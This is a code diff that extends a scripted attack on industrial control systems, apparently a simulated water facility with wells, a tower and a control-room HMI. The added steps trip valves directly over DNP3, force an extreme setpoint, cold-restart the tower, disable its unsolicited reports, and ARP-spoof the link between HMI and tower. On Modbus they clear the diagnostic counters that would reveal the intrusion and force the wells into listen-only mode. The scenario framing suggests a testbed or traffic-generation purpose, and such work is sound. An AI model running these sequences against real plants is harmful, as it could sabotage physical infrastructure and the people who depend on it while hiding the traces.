@@ -48,6 +48,8 @@ def probe_functions(story: Story, target: str = "intake") -> None:
     session.act("diag_query_data", device_id=1, msg=b"\xa5\x37")
     session.act("report_device_id", device_id=1)
     session.act("diag_get_comm_event_counter", device_id=1)
+    session.act("diag_get_comm_event_log", device_id=1)
+    session.act("read_fifo_queue", device_id=1, address=4)
     for start in (0, 100, 1000, 4000, 10_000, 40_000):
         session.act("read_holding_registers", device_id=1, address=start, count=10)
         session.act("read_coils", device_id=1, address=start, count=10)
@@ -133,26 +135,60 @@ def stop_s7(story: Story) -> None:
     session.close()
 
 
-def operate_dnp3(story: Story) -> None:
-    """Take the tower's line as if it were the control room, close the valve, move the alarm, try a point that is not there."""
+def _take_line(story: Story) -> dnp3_master.Master:
+    """Connect to the tower as if from the control room, which loses its connection."""
     master = dnp3_master.Master(story, "tower")
-    story.act("tower", "connect", "dnp3", "connect", lambda: (master.start(), "accepted")[1])
+    master.start()
+    return master
+
+
+def operate_dnp3(story: Story) -> None:
+    """Operate both valves directly, move the alarm, try an absent point, operate once without asking for an answer."""
+    master = _take_line(story)
     master.operate(dnp3_master.TRIP, 0, select=False)
     time.sleep(PAUSE)
     master.operate(dnp3_master.TRIP, 1, select=False)
     master.set_point(32_000, 0, select=False)
     master.operate(dnp3_master.LATCH_ON, 3, select=False)
+    master.operate_silently(dnp3_master.LATCH_OFF, 1)
     time.sleep(PAUSE)
-    master.restart(cold=True)
     master.close()
 
 
-def restart_modbus(story: Story) -> None:
-    """Clear the counters that would show it, and restart the wells' communication."""
+def restart_dnp3(story: Story, *, cold: bool = True) -> None:
+    """Restart the tower."""
+    master = _take_line(story)
+    master.restart(cold=cold)
+    master.close()
+
+
+def silence_dnp3(story: Story) -> None:
+    """Forbid the tower to report by itself, and hold the line so that nobody allows it again."""
+    master = _take_line(story)
+    time.sleep(2)
+    master.disable_unsolicited()
+    time.sleep(12)
+    master.close()
+
+
+def spoof_arp(story: Story) -> None:
+    """Stand between control room and tower for five seconds, passing nothing on."""
+
+    for told, claimed in (("hmi", "tower"), ("tower", "hmi")):
+        story.tell(told, "other", "arp", f"arp_reply address={address(claimed)} claimed_by=laptop", "no_answer_due")
+    scan.spoof("laptop", "hmi", "tower", seconds=5)
+
+
+def silence_modbus(story: Story) -> None:
+    """Clear the counters that would show it, make the wells deaf, and wake them some seconds later."""
     session = modbus_client.Session(story, "intake")
     session.act("diag_clear_counters", device_id=1)
     time.sleep(PAUSE)
     session.act("diag_restart_communication", device_id=1, toggle=True)
+    time.sleep(PAUSE)
+    session.act("diag_force_listen_only", device_id=1)
+    time.sleep(3)
+    session.act("diag_restart_communication", device_id=1, toggle=False)
     session.close()
 
 
@@ -168,9 +204,10 @@ def attack(story: Story) -> None:
         (write_modbus, 2.0),
         (chatter, 2.0),
         (write_s7, 2.0),
-        (operate_dnp3, 4.0),
+        (operate_dnp3, 1.0),
+        (restart_dnp3, 3.0),
         (stop_s7, 1.0),
-        (restart_modbus, 0.0),
+        (silence_modbus, 0.0),
     ):
         deed(story)
         time.sleep(rest)
